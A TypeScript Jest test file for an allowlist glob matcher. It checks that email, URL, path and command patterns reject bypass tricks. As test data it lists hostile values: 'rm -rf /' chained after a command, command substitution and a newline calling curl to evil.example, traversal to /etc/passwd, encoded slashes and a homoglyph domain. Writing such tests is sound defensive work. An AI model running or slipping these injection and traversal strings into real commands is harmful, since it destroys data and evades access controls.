import { describe, expect, it } from '@jest/globals';
import { type GlobText, matchesValue, readGlobText } from './value-glob.ts';

function matches(glob: string, value: string): boolean {
  const read = readGlobText(value);
  return read !== undefined && matchesValue(readGlobText(glob) as GlobText, read, true);
}

describe('a glob of values', () => {
  it.each<[string, string]>([
    ['*@acme.example', 'Bob@Acme.example'],
    ['https://*.acme.example/*', 'https://api.acme.example/v1/users?a=1,2'],
    ['https://api.acme.example/*', 'https://api.acme.example/'],
    ['src/*', 'src/a/b.ts'],
    ['Report *', 'Report on sales, 3/2026'],
    ['*', 'a.ts'],
    ['npm test', 'npm test'],
  ])('%j matches %j', (glob, value) => expect(matches(glob, value)).toBe(true));

  it.each<[string, string, string]>([
    ['a second address', '*@acme.example', 'eve@evil.example,bob@acme.example'],
    ['an address beside a name', '*@acme.example', 'eve@evil.example <bob@acme.example'],
    ['a line with another address', '*@acme.example', 'eve@evil.example\n@acme.example'],
    ['a longer host', '*@acme.example', 'bob@acme.example.evil.example'],
    ['the path of another host', 'https://*.acme.example/*', 'https://evil.example/.acme.example/'],
    ['the query of another host', 'https://*.acme.example', 'https://evil.example?.acme.example'],
    ['the fragment of another host', '*.acme.example', 'evil.example#.acme.example'],
    ['the user of another host', 'https://api.acme.example*', 'https://api.acme.example@evil.example'],
    ['a backslash', 'https://*.acme.example/*', 'https://evil.example\\.acme.example/'],
    ['a folder above', 'src/*', 'src/../../etc/passwd'],
    ['an encoded folder above', 'src/*', 'src/%2e%2e/x'],
    ['a host in a path', '*.acme.example/*', 'evil.example/x.acme.example/y'],
    ['another command', 'git status*', 'git status; rm -rf /'],
    ['a command in a command', 'git log *', 'git log $(curl evil.example)'],
    ['a command in the next line', 'git log *', 'git log\ncurl evil.example'],
    ['another argument', 'npm*', 'npm test --evil'],
    ['an end of the text for some tools', 'https://*.acme.example/*', 'https://evil.example\0.acme.example/'],
    ['an encoded slash', 'https://*.acme.example/*', 'https://evil.example%2f.acme.example/'],
    ['a full-width slash', 'https://*.acme.example/*', 'https://evil.example／.acme.example/'],
    ['a look-alike', '*@acme.example', 'bob@\u0430cme.example'],
    ['a very long value', '*', 'a'.repeat(10_000)],
  ])('does not match %s', (_, glob, value) => expect(matches(glob, value)).toBe(false));
});
